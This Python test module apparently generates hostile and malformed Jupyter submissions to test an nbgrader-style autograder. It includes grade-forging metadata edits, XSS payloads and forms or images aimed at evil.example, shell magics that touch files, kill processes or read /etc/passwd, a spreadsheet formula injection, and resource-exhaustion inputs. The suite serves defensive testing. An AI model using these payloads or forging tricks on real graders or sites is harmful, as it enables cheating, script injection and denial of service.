"""Whole notebooks that mean harm, or are only broken, by what is odd about them."""

import base64
import copy
import json
from collections.abc import Callable
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from grader.authoring.source import nbgrader
from tests.grading.hostile import (
    FUNCTIONS,
    QUESTION,
    HandedIn,
    cell_of,
    honest,
    with_code,
    with_own_cells,
    write,
    wrong,
)

Notebook = nbformat.NotebookNode
GD, VELOCITY, SOFTMAX = "update_parameters_with_gd", "initialize_velocity", "softmax"
SCRIPT = "<script>alert(1)</script>"
NONE: tuple[str, ...] = ()
TESTS = tuple(f"check_{name}" for name in FUNCTIONS)


def edited(
    change: Callable[[Notebook], None], base: Callable[[], Notebook] = wrong
) -> HandedIn:
    """A notebook with a change; without one right answer if nothing else is said."""

    def put(folder: Path) -> None:
        notebook = base()
        change(notebook)
        write(folder, notebook)

    return HandedIn(put, FUNCTIONS if base is wrong else NONE)


def tests_edited(change: Callable[[Notebook], None]) -> HandedIn:
    """A notebook without a right answer whose test cells are changed."""

    def each(notebook: Notebook) -> None:
        for name in TESTS:
            change(cell_of(notebook, name))

    return edited(each)


def tests_set(**values: object) -> HandedIn:
    """The same, with other values in nbgrader's metadata."""
    return tests_edited(lambda cell: cell.metadata.nbgrader.update(values))


def answered(text: str) -> HandedIn:
    """An honest notebook with that text as the answer to the question."""
    return edited(
        lambda notebook: cell_of(notebook, QUESTION).update(source=text), honest
    )


def own_cells(*codes: str) -> HandedIn:
    """An honest notebook with cells of one's own."""
    return HandedIn(with_own_cells(*codes), NONE)


def coded(code: str, name: str = GD) -> HandedIn:
    """An honest notebook with other code in one cell, which earns nothing there."""
    return HandedIn(with_code({name: code}), (name,))


def in_json(change: Callable[[dict[str, object]], object], lost=NONE) -> HandedIn:
    """An honest notebook whose JSON is changed; what is returned is its text."""

    def put(folder: Path) -> None:
        data = json.loads(nbformat.writes(honest()))
        text = change(data)
        write(folder, text if isinstance(text, str) else json.dumps(data))

    return HandedIn(put, lost)


def _without_tests(notebook: Notebook) -> None:
    notebook.cells = [cell for cell in notebook.cells if cell.id not in TESTS]


def _twice(notebook: Notebook) -> None:
    notebook.cells = [copy.deepcopy(c) for c in notebook.cells for _ in range(2)]


def _claims(notebook: Notebook) -> None:
    """Each answer claims to be the test of itself, worth more."""
    _without_tests(notebook)
    for name in FUNCTIONS:
        known = cell_of(notebook, name).metadata.nbgrader
        known.update(grade_id=f"check_{name}", grade=True, points=1000)


def _one_id(notebook: Notebook) -> None:
    for cell in notebook.cells:
        cell.id = "same"


def _swapped(notebook: Notebook) -> None:
    """The ids of two cells are exchanged."""
    first, second = cell_of(notebook, GD), cell_of(notebook, VELOCITY)
    known = first.metadata.nbgrader, second.metadata.nbgrader
    known[0].grade_id, known[1].grade_id = VELOCITY, GD


def _odd_ids(notebook: Notebook) -> None:
    odd = [[], {}, 7, None, True, "\ud83d", "../../x", SCRIPT, "x" * 100_000, "=1+1"]
    for number, name in enumerate(TESTS):
        cell = cell_of(notebook, name)
        cell.metadata.nbgrader.grade_id = odd[number % len(odd)]


def _deep(notebook: Notebook) -> None:
    deep: dict[str, object] = {}
    for _ in range(300):
        deep = {"x": deep}
    for cell in notebook.cells:
        cell.metadata["x"] = deep


def _claimed_to_be_text(notebook: Notebook) -> None:
    cell = cell_of(notebook, QUESTION)
    cell.update(cell_type="code", outputs=[], execution_count=None)
    cell.source = f"from IPython.display import HTML\nHTML({SCRIPT!r})"


def _attached(notebook: Notebook) -> None:
    picture = base64.b64encode(f"<svg onload=alert(1)>{SCRIPT}</svg>".encode()).decode()
    cell = cell_of(notebook, QUESTION)
    cell.attachments = {"x.svg": {"image/svg+xml": picture, "text/html": SCRIPT}}
    cell.source = "![x](attachment:x.svg)"


def _outputs(notebook: Notebook) -> None:
    for cell in notebook.cells:
        if cell.cell_type == "code":
            data = {"text/html": SCRIPT, "application/javascript": "alert(1)"}
            cell.outputs = [new_output("display_data", data), _mark(100), _mark(1e9)]


def _mark(value: float) -> Notebook:
    return new_output("execute_result", {"text/plain": f"{value}"}, execution_count=1)


def _metadata(notebook: Notebook) -> None:
    notebook.metadata.kernelspec = {"name": "../../sh", "argv": ["sh", "-c", "x"]}
    notebook.metadata.language_info = {
        "name": f"</script>{SCRIPT}",
        "file_extension": 7,
    }
    notebook.metadata.widgets = {"application/vnd.jupyter.widget-state+json": SCRIPT}
    notebook.metadata.title = notebook.metadata.authors = SCRIPT
    notebook.metadata.jupytext = {"notebook_metadata_filter": "all"}


def _own_text(notebook: Notebook) -> None:
    """Cells of one's own that are no code."""
    bad = (
        f"{SCRIPT}<svg onload=alert(1)> [x](javascript:alert(1)) ![](//evil.example/x)"
    )
    raw = new_raw_cell(
        bad, metadata={"raw_mimetype": "text/html", "format": "text/html"}
    )
    notebook.cells += [new_markdown_cell(bad), raw, new_markdown_cell(bad)]


def _no_ids(data: dict) -> None:
    for cell in data["cells"]:
        cell.pop("id")
    data["nbformat_minor"] = 0


def _no_metadata(data: dict) -> None:
    data["metadata"] = {}
    for cell in data["cells"]:
        cell["metadata"] = {}


def _format(number: int) -> Callable[[dict], None]:
    """An old format: worksheets, and the code under another name."""

    def change(data: dict) -> None:
        sheets = [{"cells": [_old(cell, number) for cell in data["cells"]]}]
        name = {"name": "x"} if number == 3 else {}
        known = {"nbformat": number, "nbformat_minor": 0, "metadata": name}
        data.clear()
        data.update(known, worksheets=sheets)

    return change


def _old(cell: dict, number: int) -> dict:
    if cell["cell_type"] != "code":
        return {"cell_type": "markdown", "source": cell["source"], "metadata": {}}
    known = {"cell_type": "code", "language": "python", "outputs": [], "metadata": {}}
    return known | {"collapsed": False, "input": "".join(cell["source"])}


def _big_pictures(data: dict) -> None:
    picture = base64.b64encode(bytes(5 << 20)).decode()
    shown = {"output_type": "display_data", "metadata": {}}
    data["cells"][1]["outputs"] = [shown | {"data": {"image/png": picture}}]


def _carriage_returns(data: dict) -> str:
    for cell in data["cells"]:
        cell["source"] = "".join(cell["source"]).replace("\n", "\r\n")
    return "\ufeff" + json.dumps(data, ensure_ascii=False).replace("\n", "\r\n")


def _half_in_code(data: dict) -> None:
    for cell in data["cells"]:
        lines = "".join(cell["source"])
        comment = "# \ud83d \udcff\n" if cell["cell_type"] == "code" else "\ud83d "
        is_test = str(cell["id"]).startswith(("check", "imports"))
        cell["source"] = lines if is_test else comment + lines


def _half_everywhere(data: dict) -> None:
    data["metadata"]["\ud83d"] = "\ud83d"
    for cell in data["cells"]:
        cell["metadata"]["\ud83d"] = {"\udcff": ["\ud83d"]}
        cell["metadata"].setdefault("tags", []).append("\ud83d")
        cell["id"] = "\ud83d"


def _in_a_million_pieces(data: dict) -> None:
    data["cells"][1]["source"] = ["#\n"] * 1_000_000


def _thousand_prints(notebook: Notebook) -> None:
    printing = "print('x' * (1 << 20))"
    notebook.cells += [new_code_cell(f"{printing}  # {n}") for n in range(1000)]


def _many_cells(notebook: Notebook) -> None:
    notebook.cells += [new_code_cell(f"x = {n}") for n in range(20_000)]


MILLION = 1_000_000
LOOPS = "def {}(*args, **kwargs):\n    while True:\n        pass"
PATHS = ("../../x", "/tmp/typed", "~/.bashrc", "../../../gradebook.db", "x.ipynb")
MAGICS = [
    f"%%html\n{SCRIPT}",
    "%%javascript\nalert(1)",
    f"%%svg\n<svg onload=alert(1)>{SCRIPT}</svg>",
    f"%%markdown\n{SCRIPT}",
    "%%bash\ntouch /tmp/typed\nkill -9 0",
    "%%python\nopen('/tmp/typed', 'w')",
    "%%script sh\ntouch /tmp/typed",
    *(f"%%writefile {path}\nx" for path in PATHS),
    "!touch /tmp/typed\nlines = !ls",
    "%system touch /tmp/typed",
    "%load_ext nothing.of.the.kind",
    "%run /etc/passwd",
    "%logstart /tmp/typed",
    "%history -g -f /tmp/typed",
    "%store check",
    "%reset -f out",
    "%pip install x\n%conda install x",
    "%%time\nx = 1",
    "%matplotlib qt\n%gui qt",
]
FORGING = {
    "the tests are tagged so that they are not run": tests_edited(
        lambda cell: cell.metadata.update(tags=["skip-execution", "raises-exception"])
    ),
    "every cell is tagged so that it is not run": edited(
        lambda nb: [c.metadata.update(tags=["skip-execution"]) for c in nb.cells]
    ),
    "the tests are worth a thousand points": tests_set(points=1000),
    "the tests are worth no number of points": tests_set(points=float("nan")),
    "the tests are worth less than nothing": tests_set(points=-5),
    "the tests are worth text": tests_set(points="=1+1"),
    "the tests are answers": tests_set(solution=True, locked=False),
    "the tests are tasks": tests_set(task=True, grade=False),
    "the tests give no marks": tests_set(grade=False, locked=False),
    "the tests have ids of other tests": tests_set(grade_id=TESTS[0]),
    "the tests have ids that are none": edited(_odd_ids),
    "the tests are of a format of the future": tests_set(schema_version=99),
    "the tests are of an old format": tests_set(schema_version=1),
    "the tests are text": tests_edited(lambda cell: cell.update(cell_type="raw")),
    "the tests are written anew": tests_edited(lambda cell: cell.update(source="10.0")),
    "the tests are gone": edited(_without_tests),
    "every cell is there twice": edited(_twice),
    "the cells are in the other order": edited(lambda nb: nb.cells.reverse()),
    "the answers claim to be the tests": edited(_claims),
    "all cells have one id": edited(_one_id),
    "the metadata is a list": edited(
        lambda nb: [c.metadata.update(nbgrader=[1]) for c in nb.cells]
    ),
    "the metadata nests deeply": edited(_deep),
    "the stored outputs hold full marks": edited(_outputs),
    "the metadata names programs and scripts": edited(_metadata),
    "the tests are gone from an honest notebook": edited(_without_tests, honest),
    "an honest notebook has other points": edited(
        lambda nb: [
            cell_of(nb, name).metadata.nbgrader.update(points=0) for name in TESTS
        ],
        honest,
    ),
    "an honest notebook with scripts in its outputs": edited(_outputs, honest),
    "two answers have each other's id": HandedIn(
        edited(_swapped, honest).put, NONE, breaks=True
    ),
}
WRITTEN = {
    "a script as an answer": answered(
        SCRIPT + "<ScRiPt src=//evil.example/x></sCrIpT >"
    ),
    "a picture that runs a script": answered(
        "<svg onload=alert(1)><svg/onload=alert(1)//<svg><script>alert(1)</script></svg>"
    ),
    "a frame": answered(
        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>"
        "<object data=x></object><embed src=x><applet code=x><frameset onload=alert(1)>"
    ),
    "attributes that run scripts": answered(
        "<b onmouseover=alert(1)>x</b><img src=x onerror=alert(1)><details ontoggle="
        "alert(1) open><body onload=alert(1)><input autofocus onfocus=alert(1)>"
    ),
    "links that run scripts": answered(
        "[x](javascript:alert(1)) <javascript:alert(1)> [y][1] "
        "<a href='java\tscript:alert(1)'>z</a> [v](vbscript:x) [d](data:text/html,x) "
        "[e](&#106;avascript:alert(1)) [u](JaVaScRiPt:alert(1))\n\n"
        "[1]: javascript:alert(1)"
    ),
    "remote pictures": answered(
        "![x](https://evil.example/x.png) <img src=//evil.example/y> "
        "![x][1] <video poster=//evil.example/z> <p background=//evil.example/a>\n\n"
        "[1]: http://evil.example/x.png"
    ),
    "styles that cover the page": answered(
        "<style>*{display:none}</style><p style='position:fixed;top:0;left:0;width:100%;"
        "background:url(//evil.example/x)'>10 of 10</p><link rel=stylesheet href=//x>"
    ),
    "a form": answered(
        "<form action=//evil.example><input name=x><button>Give full marks</button>"
        "</form><meta http-equiv=refresh content='0;//evil.example'><base href=//evil>"
    ),
    "formulas that run scripts": answered(
        r"$\href{javascript:alert(1)}{x}$ $$\require{html}\class{x}{\style{x}{y}}$$"
        r" \(\unicode{<script>}\) $\def\x{\x\x}\x$"
    ),
    "tags that are broken": answered(
        "<scr<script>ipt>alert(1)</scr</script>ipt> <<script>alert(1);//<</script> "
        '<img """><script>alert(1)</script>"> <!--<script>--><script>alert(1)</script>'
        " `<script>` \n\n    <script>\n\n```html\n</code><script>alert(1)</script>\n```"
    ),
    "a thousand environments": answered(r"\begin{a}" * 16_000),
    "nested quotes": answered(">" * 20_000 + " x"),
    "nested brackets": answered("[" * 50_000 + "](" * 50_000),
    "emphasis without an end": answered("*a_" * 50_000 + "`" * 20_001),
    "a table without an end": answered("|a" * 20_000 + "\n" + "|-" * 20_000),
    "escape sequences as an answer": answered("\x1b]0;owned\x07\x1b[2J\x9b2J\0\x7f\b"),
    "a formula of a spreadsheet as an answer": answered("=cmd|' /C calc'!A0"),
    "the marker of a solution as an answer": answered("### BEGIN SOLUTION\n" * 5000),
    "code as an answer in words": edited(_claimed_to_be_text, honest),
    "an attached picture with a script": edited(_attached, honest),
    "own cells that are no code": edited(_own_text, honest),
}
CODE = {
    "magics of every kind": own_cells(*MAGICS),
    "an exit in an own cell": own_cells("import sys\nsys.exit(0)", "raise SystemExit"),
    "a hard exit in an own cell": own_cells("import os\nos._exit(0)"),
    "an endless loop in an own cell": own_cells("while True:\n    pass"),
    "a flood in an own cell": own_cells("while True:\n    print('x' * 10**6)"),
    "a large picture in an own cell": own_cells(
        "from IPython.display import display\n"
        "data = {'image/png': b'\\x89PNG\\r\\n\\x1a\\n' + bytes(200 << 20)}\n"
        "display(data, raw=True)",
        "import matplotlib.pyplot as plt\nplt.figure(figsize=(300, 300), dpi=100)\n"
        "plt.plot([1, 2])\nplt.show()",
    ),
    "a recursion in an own cell": own_cells("def f():\n    f()\nf()"),
    "a question and a widget": own_cells(
        "name = input('?')", "import ipywidgets\nipywidgets.IntSlider()"
    ),
    "a loop in every function": HandedIn(
        with_code({name: LOOPS.format(name) for name in FUNCTIONS}), FUNCTIONS
    ),
    "a thousand own cells that print": edited(_thousand_prints),
    "twenty thousand own cells": edited(_many_cells),
    "millions of small lines": coded("x\n" * (3 * MILLION)),
    "one line of millions": coded("x = '" + "a" * (5 * MILLION) + "'"),
    "nested brackets in code": coded("x = " + "(" * MILLION),
    "nested blocks": coded("".join(" " * n + "if 1:\n" for n in range(1500))),
    "signs without a number": coded("x = " + "-" * MILLION + "1"),
    "a chain of calls": coded("x = x" + ".x()" * 200_000),
    "a chain of operators": coded("x = 1" + " + 1" * 200_000),
    "constants that grow": coded(
        "x = 'a' * 10**10\ny = 9**9**9\nz = ((1,) * 10**5) * 10**5\nw = 1 << 10**11"
    ),
    "a number of many digits": coded("x = " + "9" * MILLION),
    "nested texts": coded("x = " + "f'{" * 5000 + "1"),
    "lines that are continued": coded("x = 1 \\\n" * 500_000),
    "decorators without an end": coded("@x\n" * 100_000 + f"def {GD}(): pass"),
    "names that are nearly right": coded(
        "".join(f"def update_parameters_with_g{n}(): 0\n" for n in range(4500))
    ),
    "comments that name every function": coded(
        "".join(f"# GRADED FUNCTION: {name}\n" for name in FUNCTIONS) * 300
    ),
    "markers without an end": coded(
        "### BEGIN SOLUTION\n### BEGIN HIDDEN TESTS\n" * 5000
    ),
    "bytes that are no code": coded("\0\x01\f\v\x1a\x1b]0;owned\x07"),
    "a syntax error with a script": coded(
        f"def {GD}(: {SCRIPT} \x1b[2J\x1b]0;owned\x07"
    ),
}
BROKEN = {
    "format 4.0 without ids": in_json(_no_ids),
    "format 3": in_json(_format(3)),
    "format 2": in_json(_format(2)),
    "no metadata at all": in_json(_no_metadata),
    "no kernel": in_json(lambda data: data.update(metadata={})),
    "a kernel that is not here": in_json(
        lambda data: data["metadata"].update(kernelspec={"name": "julia-9.9"})
    ),
    "five megabytes of pictures": in_json(_big_pictures),
    "carriage returns and a mark of order": in_json(_carriage_returns),
    "half characters in code": in_json(_half_in_code),
    "half characters in metadata": in_json(_half_everywhere),
    "an answer in a million pieces": in_json(_in_a_million_pieces, FUNCTIONS),
    "a minor format of no sense": in_json(lambda d: d.update(nbformat_minor=10**400)),
    "a syntax error": coded(
        f"def {GD}(parameters, grads, learning_rate:\n    return 1"
    ),
    "a stub": coded(f"def {GD}(*args):\n    raise NotImplementedError"),
    "a function with another name": coded(
        f"def {GD}s(parameters, *args):\n    return 0"
    ),
    "no return": coded(f"def {VELOCITY}(parameters):\n    v = {{}}", VELOCITY),
    "defined twice": HandedIn(
        with_code(
            {
                SOFTMAX: f"def {SOFTMAX}(Z):\n    return 1\n\n"
                f"def {SOFTMAX}(Z):\n    e = np.exp(Z - Z.max(0))\n    return e / e.sum(0)"
            }
        ),
        NONE,
    ),
    "other names and other scripts": HandedIn(
        with_own_cells("점수 = '점수'\nprint(점수, 'ß', '\U0001f600')"), NONE
    ),
    "run in another order in the past": edited(
        lambda nb: [
            c.update(execution_count=99 - n)
            for n, c in enumerate(nb.cells)
            if c.cell_type == "code"
        ],
        honest,
    ),
    "locked cells are missing": edited(
        lambda nb: nb.update(
            cells=[c for c in nb.cells if not nbgrader(c).get("locked")]
        ),
        honest,
    ),
}
NOTEBOOKS = FORGING | WRITTEN | CODE | BROKEN
